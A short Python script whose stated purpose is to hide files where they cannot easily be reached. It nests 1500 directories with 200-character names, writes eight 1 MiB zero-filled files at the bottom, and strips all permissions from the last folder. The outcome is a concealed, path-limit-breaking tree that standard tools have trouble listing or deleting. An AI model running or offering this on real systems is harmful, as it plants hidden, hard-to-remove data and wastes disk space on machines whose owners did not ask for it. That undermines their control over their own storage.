"""Hides files so deep below folders that their path is longer than any path may be, and leaves them there."""

import os

name = "d" * 200
for _ in range(1500):
    os.mkdir(name)
    os.chdir(name)
for number in range(8):
    with open(f"f{number}", "wb") as file:
        file.write(bytes(1 << 20))
os.chmod(".", 0)
